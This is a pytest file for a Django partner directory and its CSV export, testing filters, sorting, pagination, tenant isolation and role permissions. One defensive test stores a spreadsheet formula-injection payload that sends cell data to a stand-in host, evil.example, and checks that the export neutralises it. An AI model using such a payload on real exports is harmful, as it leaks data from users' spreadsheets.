"""The partner directory at /t/<slug>/partners/ and its CSV export, as channel managers use them.

The API's filters are covered in test_api.py; these tests read the page a person sees: the rows
of the table in their order, the count line, the filter form, the page links and the exported
file.
"""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from partners.models import Partner, PartnerAttribute
from prm.permissions import Role
from prm.tenancy import tenant_context
from tests.partners.factories import CertificationFactory, ContactFactory, PartnerFactory, TierFactory

DIRECTORY = "/t/alpha/partners/"
EXPORT = "/t/alpha/partners/export.csv"
EXPORT_HEADER = [
    "id",
    "name",
    "legal_name",
    "domain",
    "website",
    "country",
    "status",
    "tier",
    "classification",
    "partner_types",
    "motions",
    "regions",
    "verticals",
    "segments",
    "company_size",
    "partner_manager",
    "join_date",
    "agreement_type",
    "agreement_start",
    "agreement_end",
    "archived",
]
WORLD = ["ALPHA Partner One", "ALPHA Partner Two"]  # the two partners every world_a starts with
ROW = re.compile(r'<a href="/t/alpha/partners/(\d+)/"><strong>(.*?)</strong></a>')


def rows(response) -> list[str]:
    """The partner names in the directory table, top to bottom."""
    assert response.status_code == 200, response.content[:500]
    return [html.unescape(name) for _, name in ROW.findall(response.content.decode())]


def text(response) -> str:
    """What the page says, as plain text: tags dropped, entities decoded, whitespace collapsed."""
    return re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", " ", response.content.decode()))).strip()


def portfolio_line(response) -> str:
    match = re.search(r'<p[^>]*class="portfolio-line"[^>]*>.*?</p>', response.content.decode(), re.S)
    assert match, "no portfolio line"
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", match.group(0)))


def exported(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def make_partner(tenant, name: str, *, attributes: dict[str, list[str]] | None = None, **fields) -> Partner:
    """A partner with classification values (kind → values) as PartnerAttribute rows."""
    partner = PartnerFactory(tenant=tenant, name=name, **fields)
    with tenant_context(tenant):
        for kind, values in (attributes or {}).items():
            for value in values:
                PartnerAttribute.objects.create(partner=partner, kind=kind, value=value)
    return partner


@pytest.fixture
def manager(world_a, client_for):
    return client_for(world_a.user(Role.MANAGER))


@pytest.fixture
def catalog(world_a):
    """Four partners that differ in every filtered dimension (Ember is archived)."""
    tenant = world_a.tenant
    gold = TierFactory(tenant=tenant, name="Gold", rank=1, classification="strategic")
    silver = TierFactory(tenant=tenant, name="Silver", rank=2, classification="tactical")
    make_partner(
        tenant,
        "Borealis",
        status=Partner.Status.ONBOARDING,
        tier=gold,
        country="DE",
        partner_manager=world_a.user(Role.MANAGER),
        domain="borealis.example",
        attributes={
            "type": ["reseller"],
            "motion": ["co_sell"],
            "region": ["dach"],
            "vertical": ["healthcare"],
            "segment": ["enterprise"],
        },
    )
    make_partner(
        tenant,
        "Cobalt",
        status=Partner.Status.ACTIVE,
        tier=silver,
        country="AT",
        partner_manager=world_a.user(Role.ADMIN),
        domain="cobalt-systems.example",
        attributes={
            "type": ["referral"],
            "motion": ["co_market"],
            "region": ["nordics"],
            "vertical": ["retail"],
            "segment": ["smb"],
        },
    )
    make_partner(
        tenant,
        "Dynamo",
        status=Partner.Status.SUSPENDED,
        country="FR",
        attributes={
            "type": ["reseller", "msp"],
            "motion": ["co_sell", "implement"],
            "region": ["dach", "uk_ireland"],
            "vertical": ["retail"],
            "segment": ["mid_market"],
        },
    )
    make_partner(
        tenant,
        "Ember",
        status=Partner.Status.ACTIVE,
        tier=gold,
        archived_at=timezone.now(),
        attributes={"type": ["reseller"], "motion": ["co_sell"]},
    )
    return {"gold": gold, "silver": silver}


# --- search ------------------------------------------------------------------------------------


def test_searching_by_part_of_a_name_finds_that_partner_whatever_the_case(catalog, manager):
    assert rows(manager.get(DIRECTORY, {"q": "bORea"})) == ["Borealis"]


def test_searching_by_domain_finds_the_partner_whose_name_does_not_contain_it(catalog, manager):
    assert rows(manager.get(DIRECTORY, {"q": "cobalt-systems"})) == ["Cobalt"]
    assert rows(manager.get(DIRECTORY, {"q": "Borealis.EXAMPLE"})) == ["Borealis"]


def test_a_search_that_matches_nothing_says_so(catalog, manager):
    response = manager.get(DIRECTORY, {"q": "no-such-partner"})
    assert rows(response) == []
    assert "No partner matches these filters." in text(response)


# --- filters -----------------------------------------------------------------------------------

FILTER_CASES = [
    ({"status": ["onboarding"]}, {"Borealis"}),
    ({"status": ["onboarding", "suspended"]}, {"Borealis", "Dynamo"}),
    ({"status": ["active"]}, {"Cobalt", *WORLD}),
    ({"tier": ["{gold}"]}, {"Borealis"}),
    ({"tier": ["{gold}", "{silver}"]}, {"Borealis", "Cobalt"}),
    ({"classification": ["strategic"]}, {"Borealis"}),
    ({"classification": ["tactical"]}, {"Cobalt"}),
    ({"type": ["reseller"]}, {"Borealis", "Dynamo"}),
    ({"type": ["msp"]}, {"Dynamo"}),
    ({"type": ["referral", "msp"]}, {"Cobalt", "Dynamo"}),
    ({"motion": ["co_sell"]}, {"Borealis", "Dynamo"}),
    ({"motion": ["implement"]}, {"Dynamo"}),
    ({"region": ["dach"]}, {"Borealis", "Dynamo"}),
    ({"region": ["nordics"]}, {"Cobalt"}),
    ({"vertical": ["retail"]}, {"Cobalt", "Dynamo"}),
    ({"vertical": ["healthcare"]}, {"Borealis"}),
    ({"segment": ["smb"]}, {"Cobalt"}),
    ({"segment": ["mid_market", "enterprise"]}, {"Borealis", "Dynamo"}),
    ({"manager": ["{manager}"]}, {"Borealis"}),
    ({"manager": ["{admin}"]}, {"Cobalt"}),
    ({"archived": ["no"]}, {"Borealis", "Cobalt", "Dynamo", *WORLD}),
    ({"archived": ["yes"]}, {"Ember"}),
    ({"archived": ["all"]}, {"Borealis", "Cobalt", "Dynamo", "Ember", *WORLD}),
    ({"archived": ["yes"], "motion": ["co_sell"]}, {"Ember"}),
    ({"type": ["reseller"], "region": ["uk_ireland"]}, {"Dynamo"}),
    ({"status": ["active"], "classification": ["tactical"]}, {"Cobalt"}),
]


@pytest.mark.parametrize(
    ("params", "expected"), FILTER_CASES, ids=lambda v: str(v) if isinstance(v, dict) else ""
)
def test_each_filter_shows_exactly_the_matching_partners(world_a, catalog, manager, params, expected):
    placeholders = {
        "{gold}": str(catalog["gold"].pk),
        "{silver}": str(catalog["silver"].pk),
        "{manager}": str(world_a.user(Role.MANAGER).pk),
        "{admin}": str(world_a.user(Role.ADMIN).pk),
    }
    query = {name: [placeholders.get(v, v) for v in values] for name, values in params.items()}
    shown = rows(manager.get(DIRECTORY, query))
    assert sorted(shown) == sorted(expected)


def test_without_filters_the_directory_shows_current_partners_only(catalog, manager):
    shown = rows(manager.get(DIRECTORY))
    assert sorted(shown) == sorted(["Borealis", "Cobalt", "Dynamo", *WORLD])
    assert "Ember" not in shown


@pytest.fixture
def certified(world_a):
    """Partners named after their one certification's expiry."""
    tenant = world_a.tenant
    today = timezone.localdate()
    year_ago = today - timedelta(days=365)
    expiries = {
        "Expired yesterday": today - timedelta(days=1),
        "Expires today": today,
        "Expires in 10 days": today + timedelta(days=10),
        "Expires in 40 days": today + timedelta(days=40),
        "Never expires": None,
    }
    for name, expires_on in expiries.items():
        CertificationFactory(
            partner=PartnerFactory(tenant=tenant, name=name), earned_on=year_ago, expires_on=expires_on
        )
    archived_cert = PartnerFactory(tenant=tenant, name="Removed cert in 5 days")
    CertificationFactory(
        partner=archived_cert,
        earned_on=year_ago,
        expires_on=today + timedelta(days=5),
        archived_at=timezone.now(),
    )


@pytest.mark.parametrize(
    ("days", "expected"),
    [
        ("30", {"Expires today", "Expires in 10 days"}),
        ("60", {"Expires today", "Expires in 10 days", "Expires in 40 days"}),
        ("0", {"Expires today"}),
    ],
)
def test_certification_expiring_within_n_days_leaves_out_expired_later_and_removed_ones(
    certified, manager, days, expected
):
    assert set(rows(manager.get(DIRECTORY, {"cert_expiring_days": days}))) == expected


# --- sort --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("name", [*WORLD, "Borealis", "Cobalt", "Dynamo"]),
        ("-name", ["Dynamo", "Cobalt", "Borealis", *reversed(WORLD)]),
        ("tier", ["Borealis", "Cobalt", *WORLD, "Dynamo"]),  # Gold, Silver, then the untiered by name
        ("-created", ["Dynamo", "Cobalt", "Borealis", *reversed(WORLD)]),
        ("country", [*WORLD, "Cobalt", "Borealis", "Dynamo"]),  # no country, AT, DE, FR
    ],
)
def test_sort_options_order_the_rows(catalog, manager, sort, expected):
    assert rows(manager.get(DIRECTORY, {"sort": sort})) == expected


def test_tier_sort_puts_untiered_partners_last_even_when_their_names_come_first(world_a, manager):
    registered = TierFactory(tenant=world_a.tenant, name="Registered", rank=9)
    PartnerFactory(tenant=world_a.tenant, name="Zulu Registered", tier=registered)
    shown = rows(manager.get(DIRECTORY, {"sort": "tier"}))
    assert shown == ["Zulu Registered", *WORLD]


def test_recently_changed_sort_puts_the_last_edited_partner_first(world_a, catalog, manager, in_tenant):
    with in_tenant(world_a.tenant):
        Partner.objects.get(name="Cobalt").save()
    assert rows(manager.get(DIRECTORY, {"sort": "-updated"}))[0] == "Cobalt"


def test_status_sort_groups_partners_of_one_status_together_by_name(catalog, manager, world_a, in_tenant):
    shown = rows(manager.get(DIRECTORY, {"sort": "status"}))
    with in_tenant(world_a.tenant):
        status_of = dict(Partner.objects.values_list("name", "status"))
    statuses = [status_of[name] for name in shown]
    groups = [s for i, s in enumerate(statuses) if i == 0 or s != statuses[i - 1]]
    assert len(groups) == len(set(groups)), f"statuses interleave: {statuses}"
    for status in set(statuses):
        names = [n for n in shown if status_of[n] == status]
        assert names == sorted(names)


# --- pagination, count, URL ------------------------------------------------------------------


@pytest.fixture
def thirty_co_marketers(world_a):
    for i in range(1, 31):
        make_partner(world_a.tenant, f"Bulk {i:02d}", attributes={"motion": ["co_market"]})


def test_pagination_keeps_the_filters_in_the_page_links(thirty_co_marketers, manager):
    first = manager.get(DIRECTORY, {"motion": "co_market", "sort": "-name"})
    assert rows(first) == [f"Bulk {i:02d}" for i in range(30, 5, -1)]
    links = re.findall(r'href="(\?[^"]*)"[^>]*>Next', first.content.decode())
    assert len(links) == 1
    next_query = html.unescape(links[0])
    assert "motion=co_market" in next_query
    assert "sort=-name" in next_query
    assert "page=2" in next_query
    second = manager.get(DIRECTORY + next_query)
    assert rows(second) == [f"Bulk {i:02d}" for i in range(5, 0, -1)]
    assert "Page 2 of 2" in text(second)
    previous = html.unescape(re.findall(r'href="(\?[^"]*)"[^>]*>← Previous', second.content.decode())[0])
    assert "motion=co_market" in previous
    assert "page=1" in previous


def test_the_count_of_results_is_shown(catalog, thirty_co_marketers, manager):
    assert "35 partners" in text(manager.get(DIRECTORY))
    co_marketers = manager.get(DIRECTORY, {"motion": "co_market"})  # the thirty and Cobalt
    assert "31 partners match the filters" in text(co_marketers)
    assert "1 partner matches the filters" in text(manager.get(DIRECTORY, {"q": "Borealis"}))


def test_the_filters_live_in_the_url_and_the_form_shows_them(catalog, manager):
    url = DIRECTORY + "?q=o&status=onboarding&status=suspended&region=dach&sort=-name"
    first = manager.get(url)
    again = manager.get(url)
    assert rows(first) == rows(again) == ["Dynamo", "Borealis"]
    page = html.unescape(first.content.decode())
    assert re.search(r'<input type="checkbox" name="status" value="onboarding"[^>]*checked', page)
    assert re.search(r'<input type="checkbox" name="status" value="suspended"[^>]*checked', page)
    assert not re.search(r'<input type="checkbox" name="status" value="active"[^>]*checked', page)
    assert re.search(r'<input type="search" name="q"[^>]*value="o"', page)
    assert re.search(r'<option value="dach" selected>', page)
    export_link = re.search(r'href="(/t/alpha/partners/export\.csv[^"]*)"', page).group(1)
    exported_names = [row["name"] for row in exported(manager.get(export_link))]
    assert exported_names == ["Dynamo", "Borealis"]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"cert_expiring_days": "abc"}, "Enter a number."),
        ({"cert_expiring_days": "-5"}, "greater than or equal to 0"),
        ({"status": "bogus"}, "Select a valid choice."),
        ({"tier": "999999"}, "Select a valid choice."),
        ({"manager": "abc"}, "Select a valid choice."),
        ({"archived": "maybe"}, "Select a valid choice."),
        ({"sort": "salary"}, "Select a valid choice."),
    ],
)
def test_an_invalid_filter_value_shows_an_error_on_the_filter_instead_of_failing(
    catalog, manager, params, message
):
    response = manager.get(DIRECTORY, params)
    assert response.status_code == 200
    assert message in text(response)


def test_an_invalid_filter_value_does_not_break_the_export(catalog, manager):
    response = manager.get(EXPORT, {"cert_expiring_days": "abc"})
    assert response.status_code < 500


def test_a_junk_page_number_shows_a_page_instead_of_failing(catalog, manager):
    assert rows(manager.get(DIRECTORY, {"page": "abc"})) == [*WORLD, "Borealis", "Cobalt", "Dynamo"]
    assert rows(manager.get(DIRECTORY, {"page": "99"})) == [*WORLD, "Borealis", "Cobalt", "Dynamo"]


# --- the portfolio line ---------------------------------------------------------------------------


def test_the_portfolio_line_counts_strategic_tactical_and_untiered_current_partners(
    world_a, catalog, manager
):
    bronze = TierFactory(tenant=world_a.tenant, name="Bronze", rank=3, classification="tactical")
    PartnerFactory(tenant=world_a.tenant, name="Fjord", tier=bronze)
    PartnerFactory(tenant=world_a.tenant, name="Gone", tier=bronze, archived_at=timezone.now())
    line = portfolio_line(manager.get(DIRECTORY))
    # Borealis is strategic (archived Ember is not counted); Cobalt and Fjord tactical;
    # Dynamo and the two world partners have no tier.
    assert "1 strategic" in line
    assert "2 tactical" in line
    assert "3 without a tier" in line


def test_the_portfolio_line_is_about_the_whole_program_not_the_filtered_rows(catalog, manager):
    line = portfolio_line(manager.get(DIRECTORY, {"q": "Dynamo"}))
    assert "1 strategic" in line
    assert "1 tactical" in line


# --- CSV export -----------------------------------------------------------------------------------


def test_the_export_has_the_documented_header_and_one_row_per_partner(world_a, catalog, manager):
    response = manager.get(EXPORT)
    assert 'attachment; filename="partners-alpha-' in response["Content-Disposition"]
    header = next(csv.reader(io.StringIO(response.content.decode())))
    assert header == EXPORT_HEADER
    by_name = {row["name"]: row for row in exported(response)}
    assert sorted(by_name) == sorted(["Borealis", "Cobalt", "Dynamo", *WORLD])
    borealis = by_name["Borealis"]
    assert borealis["domain"] == "borealis.example"
    assert borealis["country"] == "DE"
    assert borealis["status"] == "onboarding"
    assert borealis["tier"] == "Gold"
    assert borealis["classification"] == "strategic"
    assert borealis["partner_types"] == "reseller"
    assert borealis["regions"] == "dach"
    assert borealis["partner_manager"] == world_a.user(Role.MANAGER).email
    assert borealis["archived"] == "no"
    assert by_name["Dynamo"]["motions"] == "co_sell;implement"
    assert by_name["Dynamo"]["regions"] == "dach;uk_ireland"


def test_the_export_honours_the_filters(catalog, manager):
    names = [row["name"] for row in exported(manager.get(EXPORT, {"type": "reseller"}))]
    assert sorted(names) == ["Borealis", "Dynamo"]
    archived = exported(manager.get(EXPORT, {"archived": "yes"}))
    assert [(row["name"], row["archived"]) for row in archived] == [("Ember", "yes")]


def test_the_export_contains_every_matching_partner_not_just_one_page(thirty_co_marketers, manager):
    names = [row["name"] for row in exported(manager.get(EXPORT, {"motion": "co_market"}))]
    assert names == [f"Bulk {i:02d}" for i in range(1, 31)]


def test_a_value_a_partner_typed_is_not_exported_as_a_spreadsheet_formula(world_a, manager, client_for):
    """Partners edit their own legal name in the portal; staff open the export in a spreadsheet."""
    partner_admin = client_for(world_a.user(Role.PARTNER_ADMIN))
    payload = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    saved = partner_admin.post("/t/alpha/portal/profile/edit/", {"legal_name": payload, "description": ""})
    assert saved.status_code == 302
    row = next(r for r in exported(manager.get(EXPORT)) if r["name"] == world_a.partner.name)
    assert "HYPERLINK" in row["legal_name"]
    assert row["legal_name"][0] not in "=+-@", f"exported as a formula: {row['legal_name']}"


# --- who sees what ------------------------------------------------------------------------------


def test_another_tenants_partners_never_appear_in_the_directory_or_the_export(world_a, world_b, manager):
    PartnerFactory(tenant=world_b.tenant, name="BRAVO Secret", domain="secret.example")
    assert sorted(rows(manager.get(DIRECTORY, {"archived": "all"}))) == WORLD
    assert rows(manager.get(DIRECTORY, {"q": "BRAVO"})) == []
    assert rows(manager.get(DIRECTORY, {"q": "secret.example"})) == []
    names = [row["name"] for row in exported(manager.get(EXPORT, {"archived": "all"}))]
    assert sorted(names) == WORLD


def test_a_member_of_another_tenant_gets_404_on_this_directory(world_a, world_b, client_for):
    outsider = client_for(world_b.user(Role.ADMIN))
    assert outsider.get(DIRECTORY).status_code == 404
    assert outsider.get(EXPORT).status_code == 404


@pytest.mark.parametrize("role", [Role.PARTNER_ADMIN, Role.PARTNER_USER])
def test_partner_roles_are_refused_the_directory_and_the_export(world_a, client_for, role):
    client = client_for(world_a.user(role))
    directory = client.get(DIRECTORY)
    export = client.get(EXPORT)
    assert directory.status_code == 403
    assert export.status_code == 403
    assert b"ALPHA Partner Two" not in directory.content + export.content


@pytest.mark.parametrize("role", [Role.ADMIN, Role.MANAGER, Role.FINANCE, Role.EXECUTIVE])
def test_every_staff_role_reads_the_directory_and_the_export(world_a, client_for, role):
    client = client_for(world_a.user(role))
    assert sorted(rows(client.get(DIRECTORY))) == WORLD
    assert sorted(row["name"] for row in exported(client.get(EXPORT))) == WORLD


@pytest.mark.parametrize("role", [Role.FINANCE, Role.EXECUTIVE])
def test_read_only_roles_are_not_offered_add_or_import(world_a, client_for, role):
    page = client_for(world_a.user(role)).get(DIRECTORY).content.decode()
    assert "/t/alpha/partners/new/" not in page
    assert "/t/alpha/partners/import/" not in page


def test_managers_are_offered_add_and_import(manager):
    page = manager.get(DIRECTORY).content.decode()
    assert "/t/alpha/partners/new/" in page
    assert "/t/alpha/partners/import/" in page


# --- constant queries ----------------------------------------------------------------------------


def grow(world, n: int, start: int) -> None:
    """``n`` more partners with a tier, a manager, several attributes, contacts and certifications."""
    tenant = world.tenant
    tiers = [TierFactory(tenant=tenant, name=f"Grow tier {start + i}", rank=start + i) for i in range(2)]
    managers = [world.user(Role.MANAGER), world.user(Role.ADMIN)]
    for i in range(n):
        partner = make_partner(
            tenant,
            f"Grown {start + i:03d}",
            tier=tiers[i % 2],
            partner_manager=managers[i % 2],
            domain=f"grown{start + i}.example",
            country="DE",
            attributes={
                "type": ["reseller", "msp"],
                "motion": ["co_sell"],
                "region": ["dach", "nordics"],
                "vertical": ["retail"],
                "segment": ["smb", "enterprise"],
            },
        )
        for j in range(2):
            ContactFactory(partner=partner, email=f"person{j}@grown{start + i}.example")
        CertificationFactory(partner=partner, expires_on=timezone.localdate() + timedelta(days=20))
        CertificationFactory(partner=partner, expires_on=timezone.localdate() - timedelta(days=20))


def count_queries(client, url: str, params: dict) -> tuple[int, int, int]:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, params)
        body = response.content
    return response.status_code, len(queries), body.count(b"Grown ")


@pytest.mark.parametrize("url", [DIRECTORY, EXPORT], ids=["directory", "export"])
@pytest.mark.parametrize(
    "params",
    [{}, {"motion": "co_sell", "region": "dach", "cert_expiring_days": "30", "sort": "tier"}],
    ids=["unfiltered", "filtered"],
)
def test_the_directory_and_export_run_the_same_number_of_queries_for_3_or_15_partners(
    world_a, manager, url, params
):
    grow(world_a, 3, start=10)
    status, small, shown_small = count_queries(manager, url, params)
    grow(world_a, 12, start=20)
    status_large, large, shown_large = count_queries(manager, url, params)
    assert status == status_large == 200
    assert shown_small >= 3
    assert shown_large >= 15
    assert large == small, f"{small} queries for 3 partners, {large} for 15"
